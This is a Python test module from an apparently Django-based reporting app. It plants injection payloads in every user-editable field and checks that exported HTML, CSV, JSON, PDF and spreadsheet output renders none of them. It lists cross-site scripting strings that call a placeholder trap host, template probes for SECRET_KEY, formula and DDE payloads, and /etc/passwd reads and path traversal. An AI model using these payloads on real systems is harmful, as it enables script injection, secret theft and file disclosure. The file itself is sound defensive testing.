"""What an attacker types, and what finds in an answer that any of it was run, fetched, evaluated or taken for a formula."""

import csv
import io
import json
import os
import re
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from html.parser import HTMLParser
from itertools import cycle
from typing import Any, Final

import openpyxl
import pytest
from django.db import models
from pypdf import PdfReader

from recommendations.beside.plan import rules
from recommendations.reports.sections import answers
from tests import world
from tests.assessments.small import SMALL
from tests.canaries import Aviary
from tests.factories import make_edition

TRAP: Final = os.environ.get("SOURCEFIT_TRAP", "http://trap.invalid")
# 1337 times 7331: it stands in no page by chance.
PRODUCT: Final = "9801547"
SUM: Final = "1337*7331"
MARK: Final = "zqx"

SCRIPTS: Final = (
    f"<script src={TRAP}/1></script>",
    f"<img src={TRAP}/2 onerror=zqx(2)>",
    '"><svg onload=zqx(3)>',
    "'><img src=x onerror=zqx(4)>",
    '" autofocus onfocus=zqx(5) zqx="',
    "' autofocus onfocus=zqx(6) zqx='",
    "javascript:zqx(7)",
    "</title><script>zqx(8)</script>",
    "</textarea><script>zqx(9)</script>",
    "--><script>zqx(10)</script>",
    f"<iframe src={TRAP}/11></iframe>",
    "<a href=javascript:zqx(12)>zqx</a>",
    f"<style>@import '{TRAP}/13'</style>",
    f"<link rel=stylesheet href={TRAP}/14>",
    f"<meta http-equiv=refresh content=0;url={TRAP}/15>",
    f"<base href={TRAP}/16/>",
    f"<form action={TRAP}/17><button zqx>",
    "</script><script>zqx(18)</script>",
    "&lt;script&gt;zqx(19)&lt;/script&gt;",
    "<zqx-tag zqx>",
    "+ADw-script+AD4-zqx(20)+ADw-/script+AD4-",
)
TEMPLATES: Final = (
    "{{ 4900773|add:4900774 }}",
    "{% widthratio 1337 1 7331 %}",
    "{{ settings.SECRET_KEY }}",
    '{% include "zqx.html" %}',
    "{% zqx %}",
    f"${{{SUM}}}",
    f"<%= {SUM} %>",
    f"#{{{SUM}}}",
    "%(zqx)s %s %d %n",
    "{0.__class__} {zqx}",
    "%",
    "{",
)
FORMULAS: Final = (
    f"={SUM}",
    f"+{SUM}",
    f"-{SUM}",
    f"@SUM({SUM})",
    f" ={SUM}",
    f"\uff1d{SUM}",
    f'=HYPERLINK("{TRAP}/30","zqx")',
    "=cmd|' /C calc'!A0",
    f'","={SUM}',
    f";={SUM}",
)
TYPST: Final = (
    f"#({SUM})",
    '#read("/etc/passwd")',
    '#image("/etc/passwd")',
    f'#link("{TRAP}/40")[zqx]',
    '#import "@preview/zqx:0.1.0"',
    '] #panic("zqx") [',
    "$ zqx $ <zqx> @zqx ``` /* // \\",
    '#eval("1337*7331")',
)
PATHS: Final = (
    "../../../etc/passwd",
    "..\\..\\zqx",
    "/etc/passwd",
    'a/b\\c:d*e?"<>|.zqx',
    "file:///etc/passwd",
    "....//....//zqx",
    ".",
    "CON",
)
HEADERS: Final = (
    "zqx%0d%0aX-Odd: 1",
    '"; filename="zqx.exe',
    "zqx\u2028X-Odd: 1",
    "\u202ezqx.exe",
    "=?utf-8?q?zqx=0aBcc=3a?=",
    "zqx; Domain=trap.invalid",
)
PACKS: Final = {
    "script": SCRIPTS,
    "template": TEMPLATES,
    "formula": FORMULAS,
    "typst": TYPST,
    "path": PATHS,
    "header": HEADERS,
}
ALL: Final = tuple(payload for pack in PACKS.values() for payload in pack)
FORMULA: Final = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\n\0]")
PLAIN_NUMBER: Final = re.compile(r"[-+]?\d+([.,]\d+)?( points)?$")
# Addresses of sources that we wrote, whole: none of them holds anything that anybody typed.
SOURCES: Final = frozenset(
    (
        *answers.ADDRESSES.values(),
        *(rule.address for rule in rules.RULES),
        "https://sloanreview.mit.edu/article/the-hidden-costs-of-it-outsourcing/",
    )
)
LOCAL: Final = re.compile(r"(/(?!/)|\?|#|mailto:|otpauth:|$)")
ADDRESSES: Final = frozenset(("href", "src", "action", "formaction", "poster", "data", "xlink:href", "srcset"))
# What an author of an edition or of profiles writes.
WRITTEN: Final = frozenset(
    ("text", "hint", "short", "title", "name", "lead", "reason", "description", "introduction", "why")
)
SHORTEST: Final = 40  # letters that the narrowest of those columns takes


class Armed(Aviary):
    """The world of the canaries with a payload in every text that a person can fill, those of the edition as well."""

    def __init__(self) -> None:
        self._payloads = cycle(ALL)
        self.placed = 0
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(world, "make_edition", lambda: make_edition(armed(SMALL, cycle(ALL))))
            super().__init__()

    def _word(self, owner: Any, name: str, field: models.Field[Any, Any]) -> Any:
        word = super()._word(owner, name, field)
        if isinstance(field, models.EmailField | models.JSONField):
            return word
        self.placed += 1
        return fitting(self._payloads, field.max_length)


def fitting(payloads: Iterator[str], longest: int | None) -> str:
    return next(payload for payload in payloads if len(payload) <= (longest or len(payload)))


def armed(part: Any, payloads: Any) -> Any:
    """Put payloads into every text of an edition that an author writes."""
    match part:
        case tuple():
            return tuple(armed(one, payloads) for one in part)
        case _ if is_dataclass(part) and not isinstance(part, type):
            values = {field.name: getattr(part, field.name) for field in fields(part)}
            told = {name: armed(value, payloads) for name, value in values.items() if not isinstance(value, str)}
            written = (name for name in WRITTEN & values.keys() if isinstance(values[name], str))
            return replace(part, **told, **{name: fitting(payloads, SHORTEST) for name in sorted(written)})
    return part


class Page(HTMLParser):
    """A page as a browser takes it apart: what of it would run, load or lead elsewhere."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        if tag in {"base", "iframe", "object", "embed"} or MARK in tag:
            self.found.append(f"<{tag}>")
        if tag in {"style", "script"} and not LOCAL.match(said.get("src", "none")):
            self.found.append(f"<{tag}> of its own")
        self.found += [f"{tag} {name}" for name in said if name.startswith("on") or MARK in name or name == "srcdoc"]
        self.found += [
            f"{tag} {name}={said[name]}"
            for name in ADDRESSES & said.keys()
            if not LOCAL.match(said[name]) and said[name] not in SOURCES
        ]
        if tag == "meta" and "http-equiv" in said:
            self.found.append("meta http-equiv")


def wrong_in(answer: Any) -> list[str]:
    """Find what was run, evaluated or taken for a formula in an answer, whatever kind it is."""
    content, kind = bytes(answer.content), answer.get("Content-Type", "").partition(";")[0]
    found = [
        f"header {name}" for name, value in answer.items() if name.lower() == "x-odd" or re.search(r"[\r\n]", value)
    ]
    found += [] if LOCAL.match(answer.get("Location", "")) else ["leads elsewhere"]
    match kind:
        case "text/html":
            text = content.decode()
            return [*found, *Page(text).found, *_evaluated(text)]
        case "text/csv":
            return [*found, *wrong_cells(list(csv.reader(io.StringIO(content.decode("utf-8-sig")))))]
        case "application/json":
            json.loads(content)
            return [*found, *_evaluated(content.decode())]
        case "application/pdf":
            return [*found, *_wrong_in_pdf(content)]
        case "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet":
            return [*found, *_wrong_in_workbook(content)]
    return found


def wrong_cells(rows: list[list[str]]) -> list[str]:
    """Find cells that a spreadsheet would calculate; a number with a sign is one."""
    return [
        f"cell {cell[:40]}"
        for row in rows
        for cell in row
        if FORMULA.match(cell) and not PLAIN_NUMBER.match(cell.strip())
    ]


def _evaluated(text: str) -> list[str]:
    return [f"{PRODUCT} was worked out"] if PRODUCT in text else []


def _wrong_in_pdf(content: bytes) -> list[str]:
    reader = PdfReader(io.BytesIO(content))
    text = "".join(page.extract_text() for page in reader.pages)
    actions = [name for name in (b"/JavaScript", b"/Launch", b"/EmbeddedFile") if name in content]
    links = [
        str(note.get_object().get("/A", {}).get("/URI", ""))
        for page in reader.pages
        for note in page.get("/Annots") or ()
    ]
    return [
        *_evaluated(re.sub(r"\s", "", text)),
        *(["reads a file"] if "root:x:0:0" in text else []),
        *map(str, actions),
        *(f"links to {link}" for link in links if link.startswith(TRAP)),
    ]


def _wrong_in_workbook(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    return [
        f"formula {cell.value}"
        for cell in cells
        # What we wrote ourselves works something out of cells, and holds no text that anybody typed.
        if (cell.data_type == "f" and any(payload in str(cell.value) for payload in ALL))
        or (cell.hyperlink and TRAP in str(cell.hyperlink.target))
    ]
